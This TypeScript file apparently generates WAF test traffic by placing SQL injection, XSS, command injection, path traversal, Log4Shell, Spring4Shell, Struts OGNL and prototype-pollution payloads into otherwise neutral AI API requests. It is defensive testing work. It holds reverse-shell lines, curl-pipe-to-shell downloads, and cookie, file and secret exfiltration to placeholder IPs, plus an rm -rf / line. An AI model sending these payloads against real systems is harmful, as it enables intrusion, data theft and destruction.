/**
 * Web-layer attacks (OWASP CRS territory). Each attack sits only where its category says:
 * the rest of the request is an ordinary SDK call with a neutral prompt, so a block can be
 * attributed to the payload.
 *
 * Non-prompt JSON fields used for `*.json_field`: `user`, `metadata.<key>` (value or key
 * name), `model` (on /openai/v1 routes), `prompt_cache_key`, `safety_identifier`,
 * `service_tier`, `previous_response_id` and top-level unknown keys.
 */
import { Rng } from './rng.js';
import type { Sink } from './sink.js';
import { type Msg, type Req, chat, responses, sys, user, SYSTEM_PROMPTS } from './shapes.js';
import { NEUTRAL_PROMPTS } from './benign.js';

/** A payload given as text is percent-encoded the way sqlmap/Burp send it; `raw` is sent as written. */
type P = string | { raw: string; note?: string };

/**
 * Percent-encodes like common attack tools: spaces as %20 (or '+'), reserved and unsafe
 * characters encoded, `'()*!,;:/@$~` left as they are (browsers and sqlmap do the same).
 */
export function qenc(s: string, plusForSpace = false): string {
  let out = '';
  for (const ch of s) {
    if (/[A-Za-z0-9\-._~'()*!,;:/@$]/.test(ch)) out += ch;
    else if (ch === ' ' && plusForSpace) out += '+';
    else out += encodeURIComponent(ch).replace(/[!'()*]/g, (c) => '%' + c.charCodeAt(0).toString(16).toUpperCase());
  }
  return out;
}

function q(p: P, rng: Rng): string {
  return typeof p === 'string' ? qenc(p, rng.chance(0.3)) : p.raw;
}

function baseRequest(rng: Rng, o: { v1?: boolean; params?: Msg; headers?: Record<string, string> } = {}): Req {
  const prompt = rng.pick(NEUTRAL_PROMPTS);
  if (o.v1 === undefined && rng.chance(0.15)) return responses(rng, prompt, { params: o.params, headers: o.headers });
  return chat(rng, [sys(rng.pick(SYSTEM_PROMPTS.slice(0, 3))), user(prompt)], { v1: o.v1 ?? false, params: o.params, headers: o.headers });
}

/** Adds `name=value` to the query (or into api-version when name is 'api-version'). */
function inQuery(rng: Rng, name: string, value: string): Req {
  const req = baseRequest(rng, { v1: false });
  if (name === 'api-version') req.path = req.path.replace(/api-version=([^&]*)/, (_m, v: string) => `api-version=${v}${value}`);
  else req.path = rng.chance(0.5) ? `${req.path}&${name}=${value}` : req.path.replace('?', `?${name}=${value}&`);
  return req;
}

function inHeader(rng: Rng, name: string, value: string): Req {
  const req = baseRequest(rng);
  if (name === 'cookie') value = `${rng.pick(['ARRAffinity', 'session', 'ai_session', 'lang', 'theme'])}=${value}`;
  req.headers = { ...req.headers, [name]: value };
  return req;
}

/** Puts `value` into a non-prompt field; returns the request and the field's name for the note. */
function inField(rng: Rng, field: string, value: string): Req {
  switch (field) {
    case 'model':
      return baseRequest(rng, { v1: true, params: { model: value } });
    case 'metadata.key': {
      const req = baseRequest(rng, { params: { store: true } });
      (req.body as Msg).metadata = Object.fromEntries([[value, 'x'], ['app', 'helpdesk-bot']]);
      return req;
    }
    case 'top_level_key': {
      const req = baseRequest(rng);
      (req.body as Record<string, unknown>)[value] = 1;
      return req;
    }
    default:
      if (field.startsWith('metadata.')) {
        const key = field.slice('metadata.'.length);
        return baseRequest(rng, { params: { store: true, metadata: { app: rng.pick(['helpdesk-bot', 'sales-assistant']), [key]: value } } });
      }
      return baseRequest(rng, { params: { [field]: value } });
  }
}

const QUERY_PARAMS = ['api-version', 'id', 'q', 'filter', 'user', 'page', 'sort', 'deployment', 'redirect', 'lang', 'callback', 'format'];
const JSON_FIELDS = ['user', 'user', 'metadata.ticket', 'metadata.conversation_id', 'metadata.app', 'model', 'metadata.key', 'prompt_cache_key', 'safety_identifier', 'user'];

interface Placed {
  readonly where: string;
  readonly req: Req;
}

function place(rng: Rng, where: 'query' | 'json_field', p: P, i: number): Placed {
  if (where === 'query') {
    const name = QUERY_PARAMS[i % QUERY_PARAMS.length]!;
    return { where: `query:${name}`, req: inQuery(rng, name, q(p, rng)) };
  }
  const text = typeof p === 'string' ? p : p.raw;
  const field = JSON_FIELDS[i % JSON_FIELDS.length]!;
  return { where: `field:${field}`, req: inField(rng, field, text) };
}

function emitHeaders(sink: Sink, category: string, items: readonly (readonly [string, string])[]): void {
  const rng = new Rng(category);
  for (const [name, value] of items) sink.add(category, inHeader(rng, name, value), { tags: [`header:${name}`] });
}

function emit(sink: Sink, category: string, where: 'query' | 'json_field', payloads: readonly P[]): void {
  const rng = new Rng(category);
  payloads.forEach((p, i) => {
    const { where: w, req } = place(rng, where, p, i);
    const note = typeof p === 'string' ? undefined : p.note;
    sink.add(category, req, { tags: [w], ...(note !== undefined ? { note } : {}) });
  });
}

// ---------------------------------------------------------------- SQL injection

const SQLI: readonly P[] = [
  "' OR '1'='1",
  "' OR 1=1--",
  "1' OR '1'='1' -- -",
  '" OR ""="',
  '1 OR 1=1',
  "' UNION SELECT NULL,NULL,NULL--",
  "' UNION ALL SELECT username,password FROM users--",
  '1 UNION SELECT 1,@@version,3,4-- -',
  "-1' UNION SELECT table_name,NULL FROM information_schema.tables--",
  "1'; DROP TABLE users;--",
  "1; EXEC xp_cmdshell('whoami')--",
  "1' AND SLEEP(5)#",
  "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
  "1); WAITFOR DELAY '0:0:5'--",
  "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
  "'||(SELECT pg_sleep(10))||'",
  '1 AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))',
  "1' AND updatexml(1,concat(0x7e,version()),1)-- -",
  "' AND 1=CONVERT(int,(SELECT @@version))--",
  "1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a",
  "admin'--",
  "1' ORDER BY 10-- -",
  "1'/**/UNION/**/SELECT/**/1,2,3-- -",
  "1' UnIoN SeLeCt 1,group_concat(schema_name),3 from information_schema.schemata-- -",
  "1' AND ASCII(SUBSTRING(database(),1,1))>64-- -",
  "1 AND 1=2 UNION SELECT NULL, LOAD_FILE('/etc/passwd')--",
  "' or 'x'='x",
  "1' AND (SELECT COUNT(*) FROM sysobjects)>0--",
  "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
  "1' INTO OUTFILE '/var/www/html/s.php'-- -",
  '1 AND (SELECT 4021 FROM(SELECT COUNT(*),CONCAT(0x7176,(SELECT (ELT(4021=4021,1))),0x7178,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)',
  '1) AND 7358=7358 AND (5012=5012',
  "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- qXzT",
  "' or sleep(5)='",
  { raw: '%2527%2520OR%25201%253D1--', note: 'double URL-encoded tautology' },
  "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
];

/** [header, value]: each payload in the header an attacker would put it in. */
const SQLI_HEADER: readonly (readonly [string, string])[] = [
  ['user-agent', "Mozilla/5.0' AND SLEEP(5)-- -"],
  ['user-agent', "python-requests/2.31.0' or '1'='1"],
  ['user-agent', "Mozilla/5.0 (X11; Linux x86_64)'); WAITFOR DELAY '0:0:10'--"],
  ['user-agent', "Mozilla/5.0' UNION ALL SELECT username, password FROM admin_users-- -"],
  ['user-agent', "sqlmap' AND 7358=7358-- ZgVa"],
  ['user-agent', "1' AND (SELECT * FROM (SELECT(SLEEP(7)))bAKL)-- -"],
  ['referer', "https://assistant.contoso.com/?id=1' UNION SELECT password FROM users--"],
  ['referer', "https://www.google.com/search?q=1' AND extractvalue(1,concat(0x7e,user()))-- -"],
  ['referer', 'https://assistant.contoso.com/chat?ref=1 AND 1=CONVERT(int,db_name())'],
  ['referer', "https://assistant.contoso.com/' OR 1=1#"],
  ['referer', 'https://assistant.contoso.com/chat?id=-1 union select 1,2,concat(user,0x3a,password) from mysql.user'],
  ['cookie', "abc123'; DROP TABLE sessions;--"],
  ['cookie', "x' UNION SELECT @@version,NULL-- -"],
  ['cookie', "en-US' AND updatexml(1,concat(0x7e,(SELECT @@version)),1)-- -"],
  ['cookie', "eyJhbGciOi'||(SELECT version())||'"],
  ['cookie', "' OR 1=1--"],
  ['x-forwarded-for', "127.0.0.1' AND (SELECT 1 FROM pg_sleep(5))--"],
  ['x-forwarded-for', "1.2.3.4' OR 'a'='a"],
  ['x-forwarded-for', "203.0.113.9, 10.0.0.1' UNION SELECT NULL-- -"],
  ['x-forwarded-for', "10.1.1.1' AND 1=(SELECT COUNT(*) FROM tabname); --"],
];

const SQLI_JSON: readonly P[] = [
  "admin' OR '1'='1",
  "INC0012345' UNION SELECT password FROM users--",
  "c0ffee'; DROP TABLE conversations;--",
  "helpdesk-bot' AND SLEEP(5)-- -",
  "gpt-4o' OR 1=1--",
  "1' OR '1'='1",
  "tenant-42' AND 1=CONVERT(int,@@version)--",
  "x' AND extractvalue(1,concat(0x7e,database()))-- -",
  "u-1001' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
  "1;WAITFOR DELAY '0:0:5'--",
  "user-7' AND (SELECT 1 FROM pg_sleep(5))='1",
  "' or 1=1 limit 1 -- -+",
  "conv-9'||(SELECT CHR(65)||CHR(66) FROM dual)||'",
  "gpt-4o-mini' UNION SELECT api_key FROM deployments--",
  "1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysusers),1,1))>77--",
  "x') OR ('a'='a",
  "admin'/**/or/**/1=1#",
  "a' AND 1=1 UNION SELECT 1,load_file('/etc/passwd'),3-- -",
  "app'; EXEC master..xp_cmdshell 'ping 203.0.113.9'--",
  "ticket' AND 8315=8315 AND 'xKoj'='xKoj",
  "1 UNION SELECT NULL,sqlite_version()--",
  "' UNION SELECT username||':'||password FROM users--",
  "safety' RLIKE SLEEP(5)-- -",
  "x' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7171,(SELECT (ELT(1=1,1))),0x7178))s), 8446744073709551610, 8446744073709551610)))-- -",
  "id' OR EXISTS(SELECT * FROM users WHERE name='admin' AND password LIKE '%a%')-- -",
];

// ---------------------------------------------------------------- XSS

const XSS: readonly P[] = [
  '<script>alert(1)</script>',
  '"><script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert`1`>',
  'javascript:alert(document.cookie)',
  "\"><img src=x onerror=fetch('//203.0.113.9/c?'+document.cookie)>",
  '<iframe src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  "'-alert(1)-'",
  '</script><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  { raw: '%3CsCrIpT%3Ealert%28String.fromCharCode%2888%2C83%2C83%29%29%3C%2FsCrIpT%3E', note: 'mixed case, fully encoded' },
];

const XSS_HEADER: readonly (readonly [string, string])[] = [
  ['referer', 'https://assistant.contoso.com/"><script>alert(1)</script>'],
  ['user-agent', '<script>alert(document.cookie)</script>'],
  ['cookie', '"><svg onload=alert(1)>'],
  ['user-agent', 'Mozilla/5.0 <img src=x onerror=alert(1)>'],
  ['referer', "https://assistant.contoso.com/?q=<iframe src=javascript:alert('xss')>"],
  ['referer', 'javascript:alert(1)//'],
  ['user-agent', 'Mozilla/5.0 (Windows NT 10.0)<body onload=alert(42)>'],
  ['cookie', 'x"><img src=1 onerror=this.src=\'//203.0.113.9/?\'+document.cookie>'],
  ['cookie', '<a href=javascript:alert(1)>click</a>'],
  ['referer', 'https://assistant.contoso.com/#<script src=//203.0.113.9/x.js></script>'],
];

const XSS_JSON: readonly P[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.domain)>',
  '<svg onload=alert(1)>',
  'helpdesk-bot<script src=https://203.0.113.9/h.js></script>',
  "gpt-4o\"><script>fetch('//203.0.113.9/?c='+document.cookie)</script>",
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onpageshow=alert(1)>',
  "';alert(String.fromCharCode(88,83,83))//",
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<style>@import "//203.0.113.9/x.css";</style>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
];

// ---------------------------------------------------------------- RCE

const RCE: readonly P[] = [
  ';cat /etc/passwd',
  '| id',
  '`id`',
  '$(whoami)',
  '; curl http://203.0.113.50/s.sh | sh',
  '&& wget http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x',
  '|| ping -c 10 127.0.0.1',
  '; nc -e /bin/sh 203.0.113.50 4444',
  '127.0.0.1; ls -la /',
  ';bash -i >& /dev/tcp/203.0.113.50/443 0>&1',
  { raw: '2024-10-21%0aid', note: 'newline as command separator' },
  ';$(curl${IFS}http://203.0.113.50/$(whoami))',
  '& type C:\\Windows\\win.ini',
  '| net user administrator',
  '; /bin/busybox wget http://203.0.113.50/mips -O- | sh',
  "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.50\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
];

const RCE_HEADER: readonly (readonly [string, string])[] = [
  ['user-agent', '() { :; }; /bin/bash -c "id"'],
  ['referer', '() { :;}; echo; /bin/cat /etc/passwd'],
  ['x-forwarded-for', '${jndi:ldap://203.0.113.50:1389/a}'],
  ['x-api-version', '${jndi:rmi://203.0.113.50:1099/Exploit}'],
  ['cookie', '${${lower:j}ndi:${lower:l}dap://203.0.113.50/x}'],
  ['user-agent', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.7:389/o}'],
  ['x-client-ip', '${jndi:dns://x.203.0.113.50.nip.io/a}'],
  ['referer', '() { ignored; }; /usr/bin/wget http://203.0.113.50/bot -O /tmp/bot'],
  ['user-agent', 'Mozilla/5.0 ${jndi:ldap://198.51.100.7/${env:AWS_SECRET_ACCESS_KEY}}'],
  ['x-request-id', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.50/a}'],
  ['user-agent', '() { _; } >_[$($())] { touch /tmp/pwned; }'],
  ['cookie', '$(curl -s http://203.0.113.50/x | bash)'],
  ['x-forwarded-for', '`wget -q -O- http://203.0.113.50/s | sh`'],
  ['user-agent', '; nslookup $(whoami).203.0.113.50.nip.io'],
  ['x-api-version', '${jndi:ldaps://203.0.113.50:636/${sys:java.version}}'],
];


const RCE_JSON: readonly P[] = [
  '; rm -rf / --no-preserve-root',
  '$(curl http://203.0.113.50/cb?h=$(hostname))',
  'gpt-4o;id',
  '| cat /etc/shadow',
  '`wget http://198.51.100.7/x.sh -O- | sh`',
  'helpdesk && nc 203.0.113.50 4444 -e /bin/bash',
  "'; system('id'); '",
  '$(sleep 10)',
  '; powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.50/a.ps1\')"',
  '|| curl -d @/etc/passwd http://203.0.113.50/',
  '&& echo cHduZWQ= | base64 -d > /tmp/p',
  '; /bin/sh -c "uname -a"',
];

// ---------------------------------------------------------------- LFI

const LFI: readonly P[] = [
  '../../../../etc/passwd',
  { raw: '..%2f..%2f..%2f..%2fetc%2fpasswd', note: 'encoded slashes' },
  { raw: '..%252f..%252f..%252fetc%252fpasswd', note: 'double encoded' },
  '....//....//....//etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/shadow',
  { raw: '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', note: 'encoded dots and slashes' },
  { raw: '..%c0%af..%c0%af..%c0%afetc/passwd', note: 'overlong UTF-8 slash' },
  { raw: '..%5c..%5c..%5cboot.ini', note: 'encoded backslash' },
  '/proc/self/environ',
  '../../../../var/log/nginx/access.log',
  '../../../../root/.ssh/id_rsa',
  '../../../../home/app/.aws/credentials',
  { raw: '..%u2216..%u2216..%u2216etc%u2216passwd', note: 'IIS %u encoding' },
  { raw: '/../../../../../../../../etc/hosts%00.png', note: 'null byte truncation' },
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
];

const LFI_PATHS: readonly { path: string; note: string }[] = [
  { path: '/openai/deployments/gpt-4o/../../../../etc/passwd', note: 'raw dot-segments (clients normalise, attackers do not)' },
  { path: '/openai/deployments/%2e%2e/%2e%2e/%2e%2e/etc/passwd/chat/completions?api-version=2024-10-21', note: 'encoded dot-segments' },
  { path: '/openai/v1/..%2f..%2f..%2fetc%2fpasswd', note: 'encoded slash traversal' },
  { path: '/openai/deployments/gpt-4o/chat/completions/..;/..;/..;/etc/passwd?api-version=2024-10-21', note: 'Tomcat ..; traversal' },
  { path: '/openai/deployments/..%252f..%252f..%252fetc%252fpasswd/chat/completions?api-version=2024-10-21', note: 'double-encoded traversal' },
  { path: '/openai/deployments/gpt-4o/%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini', note: 'encoded backslash traversal' },
  { path: '/openai/v1/files/..%2F..%2F..%2Fproc%2Fself%2Fenviron', note: 'traversal towards /proc/self/environ' },
  { path: '/openai/deployments/gpt-4o/chat/completions/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd?api-version=2024-10-21', note: 'overlong UTF-8 dots' },
];

const LFI_JSON: readonly P[] = [
  '../../../../etc/passwd',
  '..\\..\\..\\..\\windows\\win.ini',
  '/etc/shadow',
  '....//....//....//etc/passwd',
  '../../../etc/passwd',
  '/proc/self/cmdline',
  '../../../../app/.env',
  '..%2f..%2f..%2fetc%2fpasswd',
  'file:///etc/passwd',
  '../../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
];

// ---------------------------------------------------------------- RFI, PHP, Java, Node.js

interface Where {
  readonly p: P;
  readonly at: 'query' | 'json_field' | 'header' | 'body_key' | 'content-type';
  readonly name?: string;
  readonly note?: string;
}

const RFI: readonly Where[] = [
  { p: 'http://203.0.113.50/shell.txt?', at: 'query', name: 'url' },
  { p: 'https://198.51.100.7/inc/config.php?', at: 'query', name: 'template' },
  { p: { raw: 'http://203.0.113.50/c99.txt%00' }, at: 'query', name: 'page' },
  { p: 'ftp://203.0.113.50/pub/x.php', at: 'query', name: 'include' },
  { p: '\\\\203.0.113.50\\share\\x.php', at: 'query', name: 'file', note: 'UNC path' },
  { p: 'http://203.0.113.50:8080/webshell.php?cmd=id', at: 'query', name: 'load' },
  { p: 'http://evil.example/payload.txt???', at: 'query', name: 'path' },
  { p: 'http://203.0.113.50/payload.txt?', at: 'json_field', name: 'metadata.callback_url' },
  { p: 'https://198.51.100.7/r57.txt?', at: 'json_field', name: 'user' },
  { p: 'http://203.0.113.50/x.php?', at: 'query', name: 'include_once' },
  { p: 'http://203.0.113.50/inject.txt?&', at: 'json_field', name: 'metadata.template' },
  { p: 'https://raw.githubusercontent.example/attacker/kit/main/shell.php?', at: 'query', name: 'require' },
];

const PHP: readonly Where[] = [
  { p: "<?php system($_GET['c']); ?>", at: 'query', name: 'cmd' },
  { p: 'php://filter/convert.base64-encode/resource=index.php', at: 'query', name: 'page' },
  { p: 'php://input', at: 'query', name: 'file' },
  { p: 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==', at: 'query', name: 'x' },
  { p: { raw: '-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', note: 'PHP-CGI argument injection (query without name)' }, at: 'query', name: '' },
  { p: 'phpinfo()', at: 'query', name: 's' },
  { p: 'O:8:"Example1":1:{s:4:"file";s:11:"/etc/passwd";}', at: 'json_field', name: 'metadata.session' },
  { p: '${@system($_GET[c])}', at: 'query', name: 'q' },
  { p: 'expect://id', at: 'query', name: 'x' },
  { p: 'zip://uploads/avatar.jpg#shell.php', at: 'query', name: 'a' },
  { p: 'phar://./uploads/x.jpg', at: 'query', name: 'p' },
  { p: '<?= `id` ?>', at: 'json_field', name: 'user' },
  { p: "base64_decode('c3lzdGVtKCJpZCIp')", at: 'query', name: 'x' },
  { p: "call_user_func('system','id')", at: 'json_field', name: 'metadata.app' },
  { p: '$_SERVER[\'DOCUMENT_ROOT\']', at: 'query', name: 'x' },
  { p: 'eval($_POST[x]);', at: 'json_field', name: 'prompt_cache_key' },
  { p: 'a:2:{i:0;O:14:"GuzzleHttp\\Psr7":0:{}i:1;s:2:"id";}', at: 'query', name: 'data' },
];

const JAVA: readonly Where[] = [
  { p: '${jndi:ldap://203.0.113.50:1389/Exploit}', at: 'query', name: 'x' },
  { p: '${jndi:rmi://198.51.100.7:1099/obj}', at: 'json_field', name: 'user' },
  { p: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.50/a}', at: 'json_field', name: 'metadata.ticket' },
  { p: '${jndi:ldap://203.0.113.50/${java:version}}', at: 'json_field', name: 'model' },
  { p: { raw: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di', note: 'Spring4Shell (CVE-2022-22965) parameter' }, at: 'query', name: '' },
  { p: { raw: 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', note: 'Spring4Shell suffix' }, at: 'query', name: '' },
  { p: "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}", at: 'content-type', note: 'Struts2 S2-045 OGNL in Content-Type' },
  { p: 'java.lang.Runtime.getRuntime().exec("id")', at: 'query', name: 'expr' },
  { p: "T(java.lang.Runtime).getRuntime().exec('id')", at: 'json_field', name: 'metadata.filter' },
  { p: "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}", at: 'query', name: 'q' },
  { p: "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()", at: 'json_field', name: 'user' },
  { p: 'JAVA_SERIALIZED', at: 'json_field', name: 'metadata.state', note: 'base64 Java serialized object (aced0005)' },
  { p: 'javax.script.ScriptEngineManager().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")', at: 'query', name: 'script' },
  { p: '${jndi:ldap://127.0.0.1#203.0.113.50:1389/a}', at: 'json_field', name: 'safety_identifier' },
  { p: "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}", at: 'query', name: 'name' },
];

const NODEJS: readonly Where[] = [
  { p: { raw: '__proto__[isAdmin]=true' }, at: 'query', name: '' },
  { p: { raw: 'constructor[prototype][polluted]=1' }, at: 'query', name: '' },
  { p: { raw: '__proto__.toString=1' }, at: 'query', name: '' },
  { p: '{"__proto__":{"isAdmin":true}}', at: 'body_key', note: 'own __proto__ key inside metadata' },
  { p: '{"constructor":{"prototype":{"shell":"/proc/self/exe"}}}', at: 'body_key', note: 'constructor.prototype pollution in metadata' },
  { p: '__proto__', at: 'body_key', note: 'top-level __proto__ key' },
  { p: "_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){console.log(o)})}()", at: 'json_field', name: 'metadata.session', note: 'node-serialize RCE' },
  { p: "require('child_process').execSync('cat /etc/passwd').toString()", at: 'json_field', name: 'user' },
  { p: "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')", at: 'json_field', name: 'metadata.filter' },
  { p: "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", at: 'query', name: 'sort' },
  { p: "new Function('return process.env')()", at: 'json_field', name: 'prompt_cache_key' },
  { p: "res.end(require('fs').readdirSync('.').toString())", at: 'query', name: 'callback' },
  { p: "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41))", at: 'json_field', name: 'model' },
];

function javaSerializedB64(): string {
  // ObjectOutputStream: magic aced 0005, TC_OBJECT, TC_CLASSDESC, class name, serialVersionUID, flags…
  const name = 'org.apache.commons.collections.functors.InvokerTransformer';
  const head = Buffer.from('aced00057372', 'hex');
  const len = Buffer.alloc(2);
  len.writeUInt16BE(name.length);
  const tail = Buffer.from('87e8ff6b7b7cce380200035b000569417267737400135b4c6a6176612f6c616e672f4f626a6563743b4c000b694d6574686f644e616d657400124c6a6176612f6c616e672f537472696e673b', 'hex');
  return Buffer.concat([head, len, Buffer.from(name, 'latin1'), tail]).toString('base64');
}

function emitWhere(sink: Sink, category: string, items: readonly Where[]): void {
  const rng = new Rng(category);
  items.forEach((w, i) => {
    let text = typeof w.p === 'string' ? w.p : w.p.raw;
    if (text === 'JAVA_SERIALIZED') text = javaSerializedB64();
    const note = w.note ?? (typeof w.p === 'string' ? undefined : w.p.note);
    let req: Req;
    let where: string;
    switch (w.at) {
      case 'query': {
        const value = typeof w.p === 'string' ? qenc(text) : text;
        if (w.name === '') {
          req = baseRequest(rng, { v1: false });
          req.path = `${req.path}&${value}`;
          where = 'query:raw';
        } else {
          req = inQuery(rng, w.name!, value);
          where = `query:${w.name}`;
        }
        break;
      }
      case 'json_field':
        req = inField(rng, w.name!, text);
        where = `field:${w.name}`;
        break;
      case 'header':
        req = inHeader(rng, w.name!, text);
        where = `header:${w.name}`;
        break;
      case 'content-type':
        req = baseRequest(rng);
        req.headers = { ...req.headers, 'content-type': text };
        where = 'header:content-type';
        break;
      case 'body_key': {
        req = baseRequest(rng, { v1: false, params: { store: true } });
        const body = req.body as Record<string, unknown>;
        if (text === '__proto__') {
          // Rebuild through JSON so `__proto__` is an own data property, as JSON.parse makes it.
          req.body = JSON.parse(JSON.stringify(body).replace(/^\{/, '{"__proto__":{"polluted":"yes","isAdmin":true},'));
          where = 'field:__proto__';
        } else {
          body.metadata = JSON.parse(text);
          where = 'field:metadata';
        }
        break;
      }
    }
    sink.add(category, req, { tags: [where], ...(note !== undefined ? { note } : {}) });
  });
}

// ---------------------------------------------------------------- protocol and scanners

function protocol(sink: Sink): void {
  const rng = new Rng('web.protocol');
  const add = (req: Req, note: string, tag: string): void => {
    sink.add('web.protocol', req, { note, tags: [tag] });
  };
  add(inQuery(rng, 'api-version', '%0d%0aSet-Cookie:%20session=attacker'), 'CRLF injection / response splitting in api-version', 'query:api-version');
  add(inQuery(rng, 'redirect', '%0d%0aLocation:%20http://203.0.113.50/'), 'CRLF + Location header injection', 'query:redirect');
  add(inQuery(rng, 'x', 'foo%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3Eowned%3C/html%3E'), 'HTTP response splitting', 'query:x');
  add(inQuery(rng, 'q', 'x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost'), 'request smuggling text in an argument', 'query:q');
  add(inField(rng, 'user', 'u-1\r\nSet-Cookie: admin=true'), 'CRLF in a JSON field', 'field:user');
  add(inField(rng, 'metadata.ticket', 'INC1\r\n\r\nPOST /internal/reset HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0'), 'smuggled request in a JSON field', 'field:metadata.ticket');
  add(inHeader(rng, 'proxy', 'http://203.0.113.50:8080'), 'httpoxy (CVE-2016-5385) Proxy header', 'header:proxy');
  add(inQuery(rng, 'q', '%zz%gg%2'), 'invalid percent-encoding', 'query:q');
  add(inQuery(rng, 'file', '%uff0e%uff0e%u2215etc%u2215passwd'), 'full-width Unicode %u encoding', 'query:file');
  add(inQuery(rng, 'file', 'report.pdf%00.php'), 'null byte in argument', 'query:file');
  add(inHeader(rng, 'range', 'bytes=5-0'), 'invalid Range (last byte before first)', 'header:range');
  add(inHeader(rng, 'range', `bytes=${Array.from({ length: 40 }, (_, i) => `${i * 2}-${i * 2 + 1}`).join(',')}`), 'Range with 40 parts (resource exhaustion)', 'header:range');
  {
    const r = baseRequest(rng);
    r.headers = { ...r.headers, 'content-type': 'application/json; charset=utf-7' };
    add(r, 'UTF-7 charset (filter evasion)', 'header:content-type');
  }
  {
    const r = baseRequest(rng);
    r.headers = { ...r.headers, 'content-type': 'application/x-java-serialized-object' };
    add(r, 'content type not allowed for this API', 'header:content-type');
  }
  add(inHeader(rng, 'connection', 'keep-alive, close'), 'conflicting Connection header', 'header:connection');
  add(inHeader(rng, 'x-original-url', '/admin/config'), 'IIS/URL-rewrite path override header', 'header:x-original-url');
}

function scanners(sink: Sink): void {
  const rng = new Rng('web.scanner');
  const uas = [
    'sqlmap/1.8.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'gobuster/3.6',
    'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    'Mozilla/5.0 (compatible; Arachni/v1.5.1; +http://www.arachni-scanner.com)',
    'Fuzz Faster U Fool v2.1.0-dev',
    'Wfuzz/3.1.0',
    'commix/v3.9-stable (https://commixproject.com)',
    'Mozilla/5.0 zgrab/0.x',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Acunetix-WVS',
  ];
  uas.forEach((ua) => {
